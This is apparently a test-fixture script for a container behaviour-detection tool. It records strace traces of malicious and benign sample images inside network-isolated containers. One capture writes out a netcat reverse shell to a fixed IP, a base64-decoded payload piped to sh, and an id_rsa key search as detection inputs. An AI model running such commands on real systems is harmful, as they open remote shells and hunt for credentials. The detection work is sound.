#!/usr/bin/env bash
# Captures strace traces of the sample images (test/samples) exactly as the worker traces a
# sample (same wrapper, same strace flags: libs/analysis/src/probes/README.md). The rule specs
# replay them through the real parser and state tracker. Needs root, docker, gcc, strace 6.1 and
# the sample images (test/samples/build.sh). Always --network none: connects fail with
# ENETUNREACH and nothing leaves the machine.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
# The stop-then-exec wrapper the worker injects at /.quarantine/hold.
cat > "$work/hold.c" <<'C'
#include <signal.h>
#include <stdio.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc < 2) { fprintf(stderr, "hold: no command\n"); return 127; }
  raise(SIGSTOP);
  execvp(argv[1], argv + 1);
  perror("hold: exec");
  return 127;
}
C
mkdir -p "$work/root/.quarantine"
gcc -static -O2 -o "$work/root/.quarantine/hold" "$work/hold.c"
tar -C "$work/root" -cf "$work/hold.tar" .quarantine

STRACE_FLAGS=(-f -q --absolute-timestamps=unix,us -s 4096 -v -yy --decode-pids=pidns
  -e 'trace=!brk,arch_prctl,set_tid_address,set_robust_list,rseq,prlimit64,rt_sigaction,rt_sigprocmask,rt_sigreturn,sigaltstack,futex,getrandom,clock_gettime,clock_nanosleep,nanosleep,gettimeofday,getpid,gettid,getppid,getuid,geteuid,getgid,getegid,sched_yield,sched_getaffinity,madvise,membarrier,restart_syscall')

capture() { # out-name image [command...]  (no command: the image's entrypoint + cmd)
  local name=$1 image=$2; shift 2
  local cmd=("$@") cid pid
  if [ ${#cmd[@]} -eq 0 ]; then
    mapfile -t cmd < <(docker image inspect -f '{{range .Config.Entrypoint}}{{println .}}{{end}}{{range .Config.Cmd}}{{println .}}{{end}}' "$image" | sed '/^$/d')
  fi
  cid=$(docker create --init --network none --pids-limit 64 --memory 64m --entrypoint /.quarantine/hold "$image" "${cmd[@]}")
  docker cp - "$cid:/" < "$work/hold.tar"
  docker start "$cid" >/dev/null
  for _ in $(seq 50); do
    pid=$(docker top "$cid" -o pid,args | awk '$2=="/.quarantine/hold"{print $1}')
    [ -n "$pid" ] && grep -q '^State:.*T' "/proc/$pid/status" && break
    sleep 0.1
  done
  strace "${STRACE_FLAGS[@]}" -o "$here/$name.strace" -p "$pid" 2>/dev/null &
  local sp=$!
  sleep 0.5
  kill -CONT "$pid"
  wait "$sp" || true
  docker rm -f "$cid" >/dev/null
  echo "$name: $(wc -l < "$here/$name.strace") lines"
}

S=quarantine-samples
for n in hello tmpwriter server shell-script user-app shadow-reader revshell etc-writer memfd-exec dropper miner-connect cron-persist stealth-implant escape-probe; do
  capture "$n" "$S/$n:latest"
done
# Realistic benign start-ups beyond the samples, on the shell-script image's rootfs:
# a web server writing its pid file and logs, an entrypoint waiting for its database with nc -z,
# then dropping privileges and printing its identity.
capture benign-webserver "$S/shell-script:latest" /bin/sh -c \
  'mkdir -p /var/run /var/log/httpd /www && echo $$ > /var/run/httpd.pid && echo ok > /www/index.html && echo "start" >> /var/log/httpd/access.log && (busybox httpd -f -p 8080 -h /www & sleep 1; kill $!) ; echo done'
capture benign-waitfor "$S/shell-script:latest" /bin/sh -c \
  'for i in 1 2; do nc -z -w 1 10.66.66.66 5432 && break; sleep 0.2; done; id; whoami; env | sort | head -3; sed -i "s/^NAME=.*/NAME=patched/" /tmp/none 2>/dev/null; exec setpriv --reuid=1000 --regid=1000 --clear-groups id'
# Static busybox applets re-executed through /proc/self/exe (comm "exe"): proc.applet must name
# the tool (issue 12). Decoded payload to a shell, netcat with -e, a key search, nc -z (benign).
capture busybox-applets "$S/shell-script:latest" /bin/sh -c \
  'echo aWQK | base64 -d | sh; nc 10.66.66.66 4444 -e /bin/sh; find / -maxdepth 1 -name id_rsa; nc -z -w 1 10.66.66.66 5432; ps; true'
# Precision (issue 12): procps ps/pgrep/pidof/top and kmod's lsmod/`kmod list`/modprobe -n list
# processes and modules (ps 4.x opens every /proc/<pid>/environ); then real reads of another
# process's environ and mem, and an insmod, which must still be caught. Needs
# test/samples/debian/build.sh debian-admin-ops.
capture precision-listing quarantine-samples/debian-admin-ops:latest /bin/sh -c \
  'sleep 2 & ps -eo pid,user,comm >/dev/null; ps aux >/dev/null; pgrep -f sleep >/dev/null; pidof sleep >/dev/null; top -b -n 1 >/dev/null; lsmod >/dev/null; kmod list >/dev/null; modprobe -n -v dummy >/dev/null 2>&1; cat /proc/self/environ >/dev/null; cat /proc/1/environ >/dev/null; dd if=/proc/1/mem of=/dev/null bs=1 count=1 2>/dev/null; insmod /nonexistent.ko 2>/dev/null; true'
